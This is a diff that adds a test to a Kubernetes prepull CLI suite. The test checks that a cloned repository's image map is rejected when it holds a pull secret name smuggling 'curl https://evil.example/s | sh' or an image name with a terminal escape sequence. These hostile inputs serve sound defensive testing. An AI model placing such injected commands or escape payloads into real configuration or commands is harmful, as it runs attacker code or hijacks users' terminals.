@@ -86,6 +86,26 @@ describe('prebuilt prepull (CLI main) against the FAKE Kubernetes API', () => {
     expect(bad.stderr).toContain('--node-selector gpu is not a node label of the form key=value');
   });
 
+  it('an image map (a cloned repository\'s) whose pull secret name would make the suggested pull-secret command run more, or whose image holds an escape sequence, is exit 2 before the cluster is asked', async () => {
+    const hostile = join(dir, 'cloned');
+    await mkdir(join(hostile, '.prebuilt', 'WarmFlow'), { recursive: true });
+    await writeFile(join(hostile, 'flow.py'), FLOW);
+    const step = { envId: 'e1', image: '127.0.0.1:5000/envs:env-e1', pinnedImage: `127.0.0.1:5000/envs:env-e1@${D}`, python: '/opt/prebuilt/env/bin/python' };
+    const write = (map: unknown) => writeFile(join(hostile, '.prebuilt', 'WarmFlow', 'images.json'), JSON.stringify(map));
+    const requests = fake.requests.length;
+    await write({ flow: 'WarmFlow', images: { a: { steps: ['start', 'end'], pullConfig: { kubernetes: { imagePullSecrets: ['x; curl https://evil.example/s | sh'] } } } }, steps: { start: step, end: step } });
+    const secret = await run(['prepull', 'flow.py', '-n', 'metaflow', '--no-wait'], {}, hostile);
+    expect(secret.code).toBe(2);
+    expect(secret.stderr).toContain("The image map of WarmFlow names the pull secret 'x; curl https://evil.example/s | sh', which is not a Kubernetes secret name.");
+    expect(secret.stderr).not.toContain('prebuilt pull-secret --namespace');
+    await write({ flow: 'WarmFlow', images: {}, steps: { start: { ...step, pinnedImage: '127.0.0.1:5000/envs:e\x1b]52;c;cHdu\x07' }, end: step } });
+    const image = await run(['prepull', 'flow.py', '-n', 'metaflow', '--no-wait'], {}, hostile);
+    expect(image.code).toBe(2);
+    expect(image.stderr).toContain('names an image for step start that is not an image reference');
+    expect(image.stderr).not.toMatch(/[\x1b\x07]/);
+    expect(fake.requests.length).toBe(requests);
+  });
+
   it('a forbidden user is exit 1 (AuthError) naming the permission; a timeout is exit 1 naming the failed pull', async () => {
     const forbidden = await run(['prepull', 'flow.py', '-n', 'metaflow'], { KUBECONFIG: await fake.writeKubeConfig(join(dir, 'forbidden'), { token: 'forbidden-token' }) });
     expect(forbidden.code).toBe(1);
